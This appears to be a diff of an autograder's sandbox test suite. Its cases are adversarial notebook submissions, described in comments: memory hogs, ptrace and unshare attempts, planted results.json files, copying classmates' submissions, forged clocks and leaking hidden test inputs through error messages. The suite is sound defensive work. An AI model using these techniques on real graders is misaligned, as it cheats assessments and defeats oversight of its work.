+    # The same with System V shared memory: one 256 MiB segment per cell, touched once and detached,
+    # kept by the kernel (without an IPC namespace even after the process ends); the last cell waits.
+    Case(
+        name="sysv_shm_memory",
+        build=source(*[attack("sysv_shm_segment")] * 5, attack("sysv_shm_held")),
+        total=100,
+        phrases={"": [("HOG refused within the limit", OVER_MEMORY)]},
+    ),
+    # A file in every folder a learner can usually write, to be found by a later run.
+    Case(name="files_left", build=source(attack("files_left")), total=100, phrases={"": [CELL, "LEFT a file in"]}),
     # The no-double-penalty retry hands the learner's process sealed answers: it finds their table
     # (192 entries, one per output value) and reads none of them.
     Case(
-        "harvest_helper_answers",
-        source(HARVEST),
-        60,
-        {"zero_pad": 0, "conv_single_step": 0, "conv_forward": 0},
-        {
+        name="harvest_helper_answers",
+        build=source(HARVEST),
+        total=60,
+        scores={"zero_pad": 0, "conv_single_step": 0, "conv_forward": 0},
+        phrases={
             "conv_forward": ["raised LookupError: HARVEST found no table of 192 answers (tables of [192, 1] entries)"],
             "conv_backward": ["right when it is given a correct zero_pad"],
         },
     ),
     # Time: the grader's clock, the grader's limits.
-    Case("forged_clock", source(FORGED_CLOCK), 95, {"distribute_value": 0}, {"distribute_value": ["time limit"]}),
-    Case("budget", source(BUDGET), 0, phrases={"": ["used up its time budget of 15 s"]}, apart=60, budget=15),
-    # Huge texts are cut before they reach the results.
-    Case("huge_line_cell", source(HUGE_LINE_CELL), 100, phrases={"": [CELL, "ValueError: LONG LINE xxxxxxxx"]}),
+    # Learner clocks frozen and the runner's alarm switched off, then a call of 3 s against a limit of 2 s.
     Case(
-        "huge_line_function",
-        source(replace={"create_mask_from_window": HUGE_LINE_FUNCTION}),
-        95,
-        {"create_mask_from_window": 0},
-        {"create_mask_from_window": ["raised IndexError"]},
+        name="forged_clock",
+        build=source(attack("forged_clock")),
+        total=95,
+        scores={"distribute_value": 0},
+        phrases={"distribute_value": ["time limit"]},
+    ),
+    # Every exercise sleeps 1.9 s, under the call limit: the budget of 15 s ends the submission.
+    Case(
+        name="budget",
+        build=source(attack("budget")),
+        total=0,
+        phrases={"": ["used up its time budget of 15 s"]},
+        apart=60,
+        budget=15,
+    ),
+    # Huge texts are cut before they reach the results.
+    Case(
+        name="huge_line_cell",
+        build=source(HUGE_LINE_CELL),
+        total=100,
+        phrases={"": [CELL, "ValueError: LONG LINE xxxxxxxx"]},
     ),
     Case(
-        "ragged_results",
-        source(RAGGED),
-        65,
-        {"conv_forward": 0, "pool_forward": 0},
-        {
+        name="huge_line_function",
+        build=source(replace={"create_mask_from_window": HUGE_LINE_FUNCTION}),
+        total=95,
+        scores={"create_mask_from_window": 0},
+        phrases={"create_mask_from_window": ["raised IndexError"]},
+    ),
+    # Results of a form no check foresaw.
+    Case(
+        name="ragged_results",
+        build=source(attack("ragged_results")),
+        total=65,
+        scores={"conv_forward": 0, "pool_forward": 0},
+        phrases={
             "conv_forward": ["`Z` cannot be read as an array"],
             "pool_forward": ["the result could not be judged (ValueError)"],
         },
@@ -1354,149 +595,220 @@ def distribute_value(dz, shape):
     *KEYRING_CASES,
     # Hidden inputs smuggled into feedback (test_case also looks for their values in every result).
     Case(
-        "exfil_message", source(EXFIL_MESSAGE), 80, {"conv_forward": 0}, {"conv_forward": ["raised ValueError: EXFIL"]}
+        name="exfil_message",
+        build=source(SECRET + attack("exfil_message")),
+        total=80,
+        scores={"conv_forward": 0},
+        phrases={"conv_forward": ["raised ValueError: EXFIL"]},
     ),
     Case(
-        "exfil_class_name",
-        source(EXFIL_CLASS_NAME),
-        80,
-        {"conv_forward": 0},
-        {"conv_forward": ["raised EXFIL_", "raised an exception of its own class"]},
+        name="exfil_class_name",
+        build=source(SECRET + attack("exfil_class_name")),
+        total=80,
+        scores={"conv_forward": 0},
+        phrases={"conv_forward": ["raised EXFIL_", "raised an exception of its own class"]},
     ),
+    # Classes named like the grader's own error kinds, raised on the hidden cases only.
     Case(
-        "exfil_reserved_names",
-        source(EXFIL_RESERVED_NAMES),
-        70.83,
-        {"conv_forward": 3.33, "pool_forward": 2.5},
-        {"conv_forward": ["time limit exceeded"], "pool_forward": ["pool_forward is not defined"]},
+        name="exfil_reserved_names",
+        build=source(SECRET + attack("exfil_reserved_names")),
+        total=70.83,
+        scores={"conv_forward": 3.33, "pool_forward": 2.5},
+        phrases={"conv_forward": ["time limit exceeded"], "pool_forward": ["pool_forward is not defined"]},
     ),
+    # The error's "line" is read from linecache, which the learner's code can rewrite before raising.
     Case(
-        "exfil_line", source(EXFIL_LINE), 80, {"conv_forward": 0}, {"conv_forward": ["raised ValueError: see the line"]}
+        name="exfil_line",
+        build=source(SECRET + attack("exfil_line")),
+        total=80,
+        scores={"conv_forward": 0},
+        phrases={"conv_forward": ["raised ValueError: see the line"]},
     ),
-    Case("exfil_shape", source(EXFIL_SHAPE), 80, {"conv_forward": 0}, {"conv_forward": ["`Z` has shape (0, "]}),
+    # An empty array whose dimensions are the hidden values: "`Z` has shape (0, ...)".
     Case(
-        "exfil_hint_name",
-        source(EXFIL_HINT_NAME),
-        80,
-        {"conv_forward": 0},
-        {"conv_forward": ["raised ValueError: nothing to see"]},
+        name="exfil_shape",
+        build=source(SECRET + attack("exfil_shape")),
+        total=80,
+        scores={"conv_forward": 0},
+        phrases={"conv_forward": ["`Z` has shape (0, "]},
     ),
+    # The mistake hint for a NameError quotes the name from the message, hidden cases included.
     Case(
-        "exfil_variable_names",
-        source(EXFIL_VARIABLE_NAMES),
-        80,
-        {"conv_forward": 0},
-        {"conv_forward": ["the cache should be"]},
+        name="exfil_hint_name",
+        build=source(SECRET + attack("exfil_hint_name")),
+        total=80,
+        scores={"conv_forward": 0},
+        phrases={"conv_forward": ["raised ValueError: nothing to see"]},
     ),
+    # The runner reports which notebook variables a function read; the learner rewrites that report.
     Case(
-        "exfil_result_type", source(EXFIL_RESULT_TYPE), 90, {"zero_pad": 0}, {"zero_pad": ["not a number or an array"]}
+        name="exfil_variable_names",
+        build=source(SECRET + attack("exfil_variable_names")),
+        total=80,
+        scores={"conv_forward": 0},
+        phrases={"conv_forward": ["the cache should be"]},
     ),
+    # An object of a class named after the input: "the result is a EXFIL_..., not a number or an array".
     Case(
-        "exfil_later_public",
-        source(EXFIL_LATER_PUBLIC),
-        98,
-        {"conv_single_step": 8},
-        {"conv_single_step": ["raised ValueError: EXFIL"]},
+        name="exfil_result_type",
+        build=source(SECRET + attack("exfil_result_type")),
+        total=90,
+        scores={"zero_pad": 0},
+        phrases={"zero_pad": ["not a number or an array"]},
+    ),
+    # zero_pad records its hidden inputs; conv_single_step's public case, judged later, shows them.
+    Case(
+        name="exfil_later_public",
+        build=source(SECRET + attack("exfil_later_public")),
+        total=98,
+        scores={"conv_single_step": 8},
+        phrases={"conv_single_step": ["raised ValueError: EXFIL"]},
     ),
     # The course's files and classmates' submissions are out of sight.
-    Case("course_import", source(COURSE_IMPORT), 0, phrases={name: ["COURSE found nothing"] for name in POINTS}),
     Case(
-        "other_submissions",
-        source(OTHER_SUBMISSIONS),
-        0,
+        name="course_import",
+        build=source(COURSE_IMPORT),
+        total=0,
+        phrases={name: ["COURSE found nothing"] for name in POINTS},
+    ),
+    # Any notebook or gradebook outside the system folders: a classmate's submission to copy from.
+    Case(
+        name="other_submissions",
+        build=source(attack("other_submissions")),
+        total=0,
         phrases={name: ["found no other submission: []"] for name in POINTS},
     ),
     # A reply written ahead of the grader's request does not carry that request's id: it ends the
     # process, and is never taken for the next reply (the cell is left out, the rest graded).
     Case(
-        "reply_ahead",
-        source(RUNNER_PIPES + 'import json\n_send_frame(json.dumps({"ok": True, "output": ""}).encode())\n'),
-        100,
+        name="reply_ahead",
+        build=source(RUNNER_PIPES + 'import json\n_send_frame(json.dumps({"ok": True, "output": ""}).encode())\n'),
+        total=100,
         phrases={"": [f"{CELL}: ended the learner's process (it sent something that is not a reply)"]},
     ),
     # Recorded helper answers: forged keys open none, and frames that are not replies cost their own call.
+    # On the retry with recorded answers, forged keys tried against the stand-in helper's own lookup.
     Case(
-        "helper_flood",
-        source(HELPER_FLOOD),
-        75,
-        {"create_mask_from_window": 0, "pool_backward": 0},
-        {"pool_backward": ["FLOOD guessed 0 of 60000 keys"]},
+        name="helper_flood",
+        build=source(attack("helper_flood")),
+        total=75,
+        scores={"create_mask_from_window": 0, "pool_backward": 0},
+        phrases={"pool_backward": ["FLOOD guessed 0 of 60000 keys"]},
     ),
+    # Frames that are not replies (questions, in the form of an older protocol) written straight to the
+    # reply pipe, then asleep with the alarm off.
     Case(
-        "helper_flood_unread",
-        source(HELPER_FLOOD_UNREAD),
-        95,
-        {"distribute_value": 0},
-        {"distribute_value": [("time limit", "ended the learner's process")]},
+        name="helper_flood_unread",
+        build=source(RUNNER_PIPES + attack("helper_flood_unread")),
+        total=95,
+        scores={"distribute_value": 0},
+        phrases={"distribute_value": [("time limit", "ended the learner's process")]},
         apart=45,
     ),
+    # The runner reads the length of a large request, never its body, and sleeps with the alarm off.
     Case(
-        "unread_request",
-        source(STALLED_READER, LARGE_CELL),
-        100,
+        name="unread_request",
+        build=source(attack("stalled_reader"), LARGE_CELL),
+        total=100,
         phrases={"": [f"Cell {FIRST_EXTRA + 1} failed"]},
         apart=45,
     ),
     # Namespaces, ptrace, planted results.
     Case(
-        "unshare_tmpfs",
-        source(UNSHARE),
-        100,
+        name="unshare_tmpfs",
+        build=source(attack("unshare_tmpfs")),
+        total=100,
         phrases={"": [CELL, "unshare(user+mount): Operation not permitted", "unshare failed: Operation not permitted"]},
     ),
-    Case("ptrace_others", source(PTRACE), 100, phrases={"": [CELL, "PTRACE attached to nothing"]}),
-    Case("plant_results", source(PLANT_RESULTS), 100, phrases={"": [CELL, "PLANT refused everywhere"]}),
-    # Memory and files the grader's count may miss, and folders its count and clean-up may choke on.
+    # PTRACE_ATTACH to every other process the learner can see (the grader, bubblewrap, ...).
     Case(
-        "socket_buffers",
-        source(*[SOCKET_BUFFERS] * 2, BUFFERS_HELD),
-        100,
+        name="ptrace_others",
+        build=source(attack("ptrace_others")),
+        total=100,
+        phrases={"": [CELL, "PTRACE attached to nothing"]},
+    ),
+    # A perfect results.json wherever results are written (Gradescope's /autograder/results included).
+    Case(
+        name="plant_results",
+        build=source(attack("plant_results")),
+        total=100,
+        phrases={"": [CELL, "PLANT refused everywhere"]},
+    ),
+    # Memory and files the grader's count may miss, and folders its count and clean-up may choke on.
+    # Kernel buffers of Unix socket pairs: neither a process's pages nor a file. Each of two cells queues
+    # 768 MiB in pairs it keeps; the last cell waits for the grader to look and says what was held.
+    Case(
+        name="socket_buffers",
+        build=source(*[attack("socket_buffers")] * 2, attack("buffers_held")),
+        total=100,
         phrases={"": [("BUFFERS refused within the limit", OVER_MEMORY)]},
     ),
-    Case("deleted_files", source(DELETED_FILES), 100, phrases={"": [("HOG refused within the limit", OVER_MEMORY)]}),
+    # Files deleted while still open: no name to find them by, their memory (a tmpfs's) still held.
     Case(
-        "unreadable_size", source(UNREADABLE_SIZE), 100, phrases={"": [("FILL stopped within the limit", OVER_MEMORY)]}
+        name="deleted_files",
+        build=source(WRITABLE_FOLDER + attack("deleted_files")),
+        total=100,
+        phrases={"": [("HOG refused within the limit", OVER_MEMORY)]},
     ),
-    Case("deep_folders", source(DEEP_FOLDERS), 100, phrases={"": [CELL, "DEEP folders: 1500 levels"]}),
+    # A folder of the learner's whose every path cannot be looked at by name (longer than PATH_MAX, made
+    # a step at a time), and 1.5 GiB of files beside it: a count that gives up on the folder misses them.
+    Case(
+        name="unreadable_size",
+        build=source(WRITABLE_FOLDER + attack("unreadable_size")),
+        total=100,
+        phrases={"": [OVER_FILL]},
+    ),
+    # Folders 1500 deep in HOME (made a step at a time) and a sleeper: a count or a clean-up that walks
+    # them by recursion fails, and must not fail the grader nor leave the sleeper running.
+    Case(
+        name="deep_folders",
+        build=source(attack("deep_folders")),
+        total=100,
+        phrases={"": [CELL, "DEEP folders: 1500 levels"]},
+    ),
 ]
 
 # Assignment 2: a wrong helper excuses no large case left undone, and a large case is compared,
 # in a result of its shape, at positions no learner can know (see mnist_cheats.py).
 MNIST_CASES = [
     Case(
-        "mnist_forged_helper_not_recorded",
-        mnist_source(mnist_cheats.FORGED_HELPER_NOT_RECORDED),
-        96.66,  # 8.33 + 8.33 lost, each exercise's score rounded to 2 places
-        {"pool_forward_fast": 8.33, "pool_backward_fast": 8.33},
-        {"pool_backward_fast": ["5 of 6 cases pass", "case 6 (hidden case): a helper was called with arguments"]},
+        name="mnist_forged_helper_not_recorded",
+        build=mnist_source(mnist_cheats.FORGED_HELPER_NOT_RECORDED),
+        total=96.66,  # 8.33 + 8.33 lost, each exercise's score rounded to 2 places
+        scores={"pool_forward_fast": 8.33, "pool_backward_fast": 8.33},
+        phrases={
+            "pool_backward_fast": ["5 of 6 cases pass", "case 6 (hidden case): a helper was called with arguments"]
+        },
     ),
     Case(
-        "mnist_helper_called_only",
-        mnist_source(mnist_cheats.HELPER_CALLED_ONLY),
-        96.66,  # 8.33 + 8.33 lost, each exercise's score rounded to 2 places
-        {"pool_forward_fast": 8.33, "pool_backward_fast": 8.33},
-        {"pool_backward_fast": ["5 of 6 cases pass", "case 6 (hidden case): the result is wrong at"]},
+        name="mnist_helper_called_only",
+        build=mnist_source(mnist_cheats.HELPER_CALLED_ONLY),
+        total=96.66,  # 8.33 + 8.33 lost, each exercise's score rounded to 2 places
+        scores={"pool_forward_fast": 8.33, "pool_backward_fast": 8.33},
+        phrases={"pool_backward_fast": ["5 of 6 cases pass", "case 6 (hidden case): the result is wrong at"]},
     ),
     Case(  # the honest counterpart: the large case counts, judged with the reference's answers
-        "mnist_helper_wrong_everywhere",
-        mnist_source(mnist_cheats.HELPER_WRONG_EVERYWHERE),
-        90,
-        {"pool_forward_fast": 0},
-        {"pool_backward_fast": ["6 of 6 cases pass", "right when it is given a correct pool_forward_fast"]},
+        name="mnist_helper_wrong_everywhere",
+        build=mnist_source(mnist_cheats.HELPER_WRONG_EVERYWHERE),
+        total=90,
+        scores={"pool_forward_fast": 0},
+        phrases={"pool_backward_fast": ["6 of 6 cases pass", "right when it is given a correct pool_forward_fast"]},
     ),
     Case(
-        "mnist_seeded_positions",
-        mnist_source(mnist_cheats.SEEDED_POSITIONS),
-        96.67,
-        {"conv_forward_fast": 16.67},
-        {"conv_forward_fast": ["5 of 6 cases pass", "case 6 (hidden case): `Z` is wrong at most positions"]},
+        name="mnist_seeded_positions",
+        build=mnist_source(mnist_cheats.SEEDED_POSITIONS),
+        total=96.67,
+        scores={"conv_forward_fast": 16.67},
+        phrases={"conv_forward_fast": ["5 of 6 cases pass", "case 6 (hidden case): `Z` is wrong at most positions"]},
     ),
     Case(
-        "mnist_flat_result",
-        mnist_source(mnist_cheats.FLAT_RESULT),
-        96.67,
-        {"conv_forward_fast": 16.67},
-        {"conv_forward_fast": ["case 6 (hidden case): `Z` has the wrong shape (this case's shapes are hidden)"]},
+        name="mnist_flat_result",
+        build=mnist_source(mnist_cheats.FLAT_RESULT),
+        total=96.67,
+        scores={"conv_forward_fast": 16.67},
+        phrases={
+            "conv_forward_fast": ["case 6 (hidden case): `Z` has the wrong shape (this case's shapes are hidden)"]
+        },
     ),
 ]
 
@@ -2065,7 +1377,7 @@ def test_forged_clock_does_not_hide_a_slow_large_case(tmp_path):
     if os.geteuid() != 0 or not bubblewrap_works():
         unavailable("grading here needs root and bubblewrap")
     notebook = nbformat.read(str(source_notebook(ROOT, "conv_mnist")), as_version=4)
-    notebook.cells.append(nbformat.v4.new_code_cell(SLOW_LARGE_CASE))
+    notebook.cells.append(nbformat.v4.new_code_cell(attack("mnist/slow_large_case")))
     nbformat.write(notebook, str(tmp_path / "conv_mnist.ipynb"))
     result = grade_notebook(
         tmp_path / "conv_mnist.ipynb", Course.repository(), "conv_mnist", Limits(memory_bytes=2**30)
